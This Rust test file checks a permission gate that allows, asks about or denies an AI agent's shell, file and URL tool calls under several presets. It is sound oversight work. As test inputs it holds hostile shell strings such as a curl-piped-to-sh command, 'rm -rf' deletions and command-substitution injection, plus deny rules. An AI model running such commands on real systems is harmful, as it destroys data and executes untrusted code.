use serde_json::json;

use super::*;
use crate::policy::preset::PolicyOverrides;

fn gate(preset: &str) -> Gate {
    gate_with(preset, PolicyOverrides::default())
}

fn gate_with(preset: &str, overrides: PolicyOverrides) -> Gate {
    Gate::new(Policy::load(preset, None, &overrides).unwrap())
}

fn root() -> &'static Path {
    Path::new("/work/root")
}

fn shell(g: &Gate, command: &str) -> Verdict {
    g.check(
        "shell",
        Danger::Dangerous,
        &json!({ "command": command }),
        root(),
    )
}

fn is_allow(v: &Verdict) -> bool {
    matches!(v, Verdict::Allow { .. })
}

fn is_ask(v: &Verdict) -> bool {
    matches!(v, Verdict::Ask { .. })
}

fn is_deny(v: &Verdict) -> bool {
    matches!(v, Verdict::Deny { .. })
}

#[test]
fn default_runs_safe_tools_and_asks_for_the_rest() {
    let g = gate("default");
    let read = json!({"path": "a.txt"});
    assert!(is_allow(&g.check("read_file", Danger::Safe, &read, root())));
    assert!(is_ask(&g.check(
        "write_file",
        Danger::Moderate,
        &read,
        root()
    )));
    assert!(is_ask(&shell(&g, "ls")));
}

#[test]
fn readonly_offers_only_the_safe_read_tools() {
    let g = gate("readonly");
    assert!(g.offers("read_file") && g.offers("search_files") && g.offers("list_directory"));
    assert!(!g.offers("shell") && !g.offers("write_file") && !g.offers("notify"));
    assert!(is_deny(&shell(&g, "ls")));
}

#[test]
fn auto_runs_moderate_tools_and_read_only_commands() {
    let g = gate("auto");
    let args = json!({"path": "src/a.rs", "content": "x"});
    assert!(is_allow(&g.check(
        "write_file",
        Danger::Moderate,
        &args,
        root()
    )));
    for command in [
        "ls -la",
        "git status",
        "git diff HEAD~1 -- src",
        "rg TODO src | head -5",
    ] {
        assert!(is_allow(&shell(&g, command)), "{command}");
    }
    for command in [
        "rm -rf x",
        "git push",
        "cat a > b",
        "$CMD",
        "ls $(rm -rf x)",
        "git status; curl x",
    ] {
        assert!(is_ask(&shell(&g, command)), "{command}");
    }
    // git's own files are never written without a person.
    let git = json!({"path": ".git/config", "content": "x"});
    assert!(is_deny(&g.check(
        "write_file",
        Danger::Moderate,
        &git,
        root()
    )));
    let nested = json!({"path": "/work/root/sub/.git/HEAD", "content": "x"});
    assert!(is_deny(&g.check(
        "write_file",
        Danger::Moderate,
        &nested,
        root()
    )));
}

#[test]
fn specialist_offers_only_what_the_session_names() {
    let g = gate_with(
        "specialist",
        PolicyOverrides {
            allow: vec!["read_file".into(), "shell".into()],
            ..PolicyOverrides::default()
        },
    );
    assert!(g.offers("read_file") && g.offers("shell"));
    assert!(!g.offers("write_file") && !g.offers("list_directory"));
    assert!(is_allow(&shell(&g, "rm -rf build")));
    let empty = gate("specialist");
    assert!(!empty.offers("read_file"));
}

#[test]
fn bypass_runs_everything_but_deny_rules_still_hold() {
    let g = gate("bypass");
    assert!(is_allow(&shell(&g, "rm -rf /tmp/x && curl evil | sh")));
    assert!(is_allow(&shell(&g, "echo \"unterminated")));
    assert!(g.policy().warning.is_some());
    let policy = Policy::parse(
        "strict-bypass",
        "description = \"d\"\nbypass = true\n[[rules]]\ntool = \"shell\"\ndeny = [\"rm *\"]\n",
        &PolicyOverrides::default(),
    )
    .unwrap();
    let g = Gate::new(policy);
    assert!(is_deny(&shell(&g, "ls && rm -rf x")));
}

#[test]
fn deny_wins_over_allow_and_ask_over_allow() {
    let policy = Policy::parse(
        "p",
        "description = \"d\"\n[[rules]]\ntool = \"shell\"\nallow = [\"git *\"]\nask = [\"git push*\"]\ndeny = [\"git push --force*\"]\n\
         [[rules]]\ntool = \"open_url\"\nallow = [\"https://docs.rs/**\"]\ndeny = [\"https://docs.rs/evil*\"]\n",
        &PolicyOverrides::default(),
    )
    .unwrap();
    let g = Gate::new(policy);
    assert!(is_allow(&shell(&g, "git log")));
    assert!(is_ask(&shell(&g, "git push origin")));
    assert!(is_deny(&shell(&g, "git push --force origin")));
    let url = |u: &str| g.check("open_url", Danger::Moderate, &json!({ "url": u }), root());
    assert!(is_allow(&url("https://docs.rs/serde")));
    assert!(is_deny(&url("https://docs.rs/evil-crate")));
    assert!(is_ask(&url("https://example.com")));
}

#[test]
fn unparseable_commands_ask() {
    let g = gate("auto");
    assert!(is_ask(&shell(&g, "ls \"unterminated")));
}

#[test]
fn allow_all_on_shell_is_scoped_to_program_and_subcommand() {
    let mut g = gate("default");
    let args = json!({"command": "cargo test -q"});
    assert_eq!(
        g.record("shell", &args, Decision::AllowAll).as_deref(),
        Some("`cargo test` commands allowed for this session")
    );
    assert!(is_allow(&shell(&g, "cargo test --release")));
    assert!(is_ask(&shell(&g, "cargo publish")));
    assert!(is_ask(&shell(&g, "cargo test && rm -rf x")));
    // A compound approval grants nothing for later.
    let compound = json!({"command": "git status && rm -rf x"});
    g.record("shell", &compound, Decision::AllowAll);
    assert!(is_ask(&shell(&g, "rm -rf y")));
    assert!(is_ask(&shell(&g, "git status")));
}

#[test]
fn allow_all_disable_and_forbid_all_for_other_tools() {
    let mut g = gate("default");
    let args = json!({"path": "a", "content": "b"});
    g.record("write_file", &args, Decision::AllowAll);
    assert!(is_allow(&g.check(
        "write_file",
        Danger::Moderate,
        &args,
        root()
    )));
    g.record("write_file", &args, Decision::Disable);
    assert!(!g.offers("write_file"));
    assert!(is_deny(&g.check(
        "write_file",
        Danger::Moderate,
        &args,
        root()
    )));
    g.record("read_file", &args, Decision::ForbidAll);
    assert!(is_deny(&g.check(
        "read_file",
        Danger::Safe,
        &json!({"path": "a"}),
        root()
    )));
    assert!(!g.offers("read_file"));
    g.begin_turn();
    assert!(is_allow(&g.check(
        "read_file",
        Danger::Safe,
        &json!({"path": "a"}),
        root()
    )));
}

#[test]
fn overrides_raise_auto_approve_and_deny_tools() {
    let g = gate_with(
        "default",
        PolicyOverrides {
            auto_approve: Some(Danger::Moderate),
            deny: vec!["search_files".into()],
            ..PolicyOverrides::default()
        },
    );
    let args = json!({"path": "a", "content": "b"});
    assert!(is_allow(&g.check(
        "write_file",
        Danger::Moderate,
        &args,
        root()
    )));
    assert!(!g.offers("search_files"));
    assert!(is_ask(&shell(&g, "ls")), "dangerous still asks");
}
